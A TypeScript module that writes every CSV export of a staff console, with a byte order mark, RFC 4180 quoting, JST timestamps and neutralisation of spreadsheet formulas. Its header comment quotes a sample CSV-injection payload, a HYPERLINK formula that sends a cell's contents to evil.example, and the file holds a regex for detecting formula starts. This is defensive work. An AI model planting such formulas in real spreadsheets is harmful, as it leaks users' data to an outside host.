// The one CSV writer of the console: every file staff download (payout batches, accounts, likely
// victims, audit records) is written with these functions, so every file
// - starts with a UTF-8 byte order mark: Excel on Japanese Windows reads a CSV without one as
//   Shift_JIS and turns katakana names into mojibake;
// - quotes fields the RFC 4180 way and ends every record with CRLF;
// - neutralises cells a spreadsheet would run as a formula (a holder name like
//   =HYPERLINK("http://evil.example/?x="&A1,"click") must stay text);
// - writes times in JST with their offset ("2026-12-03T18:00:00+09:00"), and names files in JST
//   ("payout-batch-1a2b3c4d-20261203-1800JST.csv").
// Pure: no I/O, so the server's streams and the tests use the same code.
import { isoJstFromMs, JST_OFFSET_MS } from "./jst.ts";

/** U+FEFF: encoded as UTF-8 it is the bytes EF BB BF at the start of the file. */
export const CSV_BOM = "\uFEFF";
export const CSV_NEWLINE = "\r\n";


// = + - @ start a formula in Excel, LibreOffice and Google Sheets; a leading tab or CR can hide one
// (OWASP "CSV injection"). The full-width forms are included because Japanese input methods type
// them and spreadsheets may normalise them to the ASCII ones.
const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** "2026-12-03T18:00:00+09:00" (second precision); empty for null. */
export function isoJst(at: Date | null | undefined): string {
  if (!at) return "";
  const t = at.getTime();
  if (Number.isNaN(t)) return "";
  return isoJstFromMs(t);
}

/** "20261203-1800JST": the JST minute, for file names a person reads and sorts. */
export function jstFileStamp(at: Date): string {
  const s = new Date(at.getTime() + JST_OFFSET_MS).toISOString();
  return `${s.slice(0, 4)}${s.slice(5, 7)}${s.slice(8, 10)}-${s.slice(11, 13)}${s.slice(14, 16)}JST`;
}

/** `<prefix>-20261203-1800JST.csv`; the prefix is kept to safe file-name characters. */
export function csvFileName(prefix: string, at: Date): string {
  return `${prefix.replace(/[^A-Za-z0-9._-]/g, "_")}-${jstFileStamp(at)}.csv`;
}

/** Text a spreadsheet will show as typed: a formula-looking start gets a leading apostrophe. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * One field. Strings are neutralised and quoted when needed; numbers and booleans are written as
 * they are (a negative amount stays a number); a Date becomes JST with its offset; other values
 * (objects, arrays) become JSON text, treated like any other string.
 */
export function csvCell(value: unknown): string {
  let s: string;
  if (value === null || value === undefined) return "";
  if (typeof value === "number" || typeof value === "bigint") {
    return String(value);
  } else if (typeof value === "boolean") {
    return value ? "true" : "false";
  } else if (value instanceof Date) {
    return isoJst(value);
  } else if (typeof value === "string") {
    s = neutraliseFormula(value);
  } else {
    s = neutraliseFormula(JSON.stringify(value));
  }
  return NEEDS_QUOTES.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** One record, CRLF-terminated. */
export function csvRecord(values: readonly unknown[]): string {
  let line = "";
  for (let i = 0; i < values.length; i++) line += (i === 0 ? "" : ",") + csvCell(values[i]);
  return line + CSV_NEWLINE;
}

/** The first chunk of a file: BOM and header record. */
export function csvHead(header: readonly string[]): string {
  return CSV_BOM + csvRecord(header);
}

/** A whole file as text (BOM, header, records); encode it as UTF-8. */
export function csvDocument(header: readonly string[], rows: Iterable<readonly unknown[]>): string {
  let out = csvHead(header);
  for (const row of rows) out += csvRecord(row);
  return out;
}
